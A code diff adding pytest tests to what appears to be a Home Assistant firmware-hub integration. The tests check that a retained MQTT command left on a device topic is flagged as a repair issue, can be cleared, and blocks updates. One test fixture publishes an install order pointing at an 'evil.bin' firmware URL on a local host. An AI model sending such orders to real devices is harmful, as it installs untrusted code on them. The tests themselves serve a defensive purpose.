@@ -12,7 +12,7 @@ import pytest
 from homeassistant.helpers import issue_registry as ir
 from homeassistant.setup import async_setup_component
 from homeassistant.util import dt as dt_util
-from pytest_homeassistant_custom_component.common import MockConfigEntry
+from pytest_homeassistant_custom_component.common import MockConfigEntry, async_fire_mqtt_message
 from pytest_homeassistant_custom_component.typing import ClientSessionGenerator
 
 from custom_components.firmware_hub import issues
@@ -400,6 +400,65 @@ async def test_the_address_can_be_set_on_the_spot(home: Home, fix: Fix) -> None:
     done = await fix.answer(wrong, {"address": "192.168.1.2", "port": 8127})
     assert done["type"] == "create_entry"
     assert home.entry.options[CONF_SERVING] == {"address": "192.168.1.2", "port": 8127}
+
+
+# --- orders that somebody left lying on the broker -------------------------------------------------------------------
+
+LEFT = "fwhub/device/plug-1/command"
+
+
+def leave(home: Home, payload: str, *, retain: bool = True) -> None:
+    """Let the broker tell what lies on the topic on which the plug takes its orders."""
+    async_fire_mqtt_message(home.hass, LEFT, payload, 0, retain)
+
+
+async def test_an_order_that_lies_on_the_broker_is_shown_and_cleared_on_that_topic(home: Home, fix: Fix) -> None:
+    leave(home, '{"command":"install","url":"http://192.168.1.66/evil.bin"}')
+    await until(lambda: has(home, IssueKind.LASTING_COMMAND))
+    issue = the_issue(home, IssueKind.LASTING_COMMAND)
+    assert (places(issue)["address"], places(issue)["detail"]) == (LEFT, "install")
+    assert issue.severity is ir.IssueSeverity.ERROR
+    menu = await fix.open(IssueKind.LASTING_COMMAND)
+    assert menu["menu_options"] == ["clear", "stay"]
+    home.mqtt.async_publish.reset_mock()
+    assert (await fix.choose(menu, "clear"))["type"] == "create_entry"
+    await until(lambda: home.mqtt.async_publish.call_args_list)
+    assert [call.args for call in home.mqtt.async_publish.call_args_list] == [(LEFT, "", 0, True)]
+    leave(home, "", retain=False)
+    assert not home.hub.hub.keeps_order(LEFT)
+    assert not has(home, IssueKind.LASTING_COMMAND)
+
+
+async def test_it_goes_away_when_somebody_else_clears_it(home: Home) -> None:
+    leave(home, '{"command":"install"}')
+    await until(lambda: has(home, IssueKind.LASTING_COMMAND))
+    leave(home, "", retain=False)
+    await until(lambda: not has(home, IssueKind.LASTING_COMMAND))
+
+
+@pytest.mark.parametrize(("payload", "retain"), [('{"command":"install"}', False), ('{"command":"report"}', True)])
+async def test_an_order_of_just_now_or_a_question_is_no_repair(home: Home, payload: str, retain: bool) -> None:
+    leave(home, payload, retain=retain)
+    await home.find("plug-2")
+    assert not has(home, IssueKind.LASTING_COMMAND)
+
+
+async def test_an_update_waits_while_an_order_lies_there(night: Home) -> None:
+    leave(night, '{"command":"install"}')
+    await night.publish("1.1.0")
+    entity_id = await night.offered()
+    await night.say("plug-1", "availability", "online")
+    await night.call("update.install", entity_id=entity_id)
+    await until(lambda: night.state(entity_id).attributes["reason"] == Reason.LASTING_COMMAND)
+    assert "a stray order lies on the broker" in night.state(entity_id).attributes["title"]
+    assert night.commands("plug-1", "install") == []
+
+
+async def test_a_hub_that_is_reloaded_says_it_anew_or_not_at_all(home: Home) -> None:
+    leave(home, '{"command":"install"}')
+    await until(lambda: has(home, IssueKind.LASTING_COMMAND))
+    await home.hass.config_entries.async_unload(home.entry.entry_id)
+    assert not has(home, IssueKind.LASTING_COMMAND)
 
 
 # --- a hub that is not there -----------------------------------------------------------------------------------------
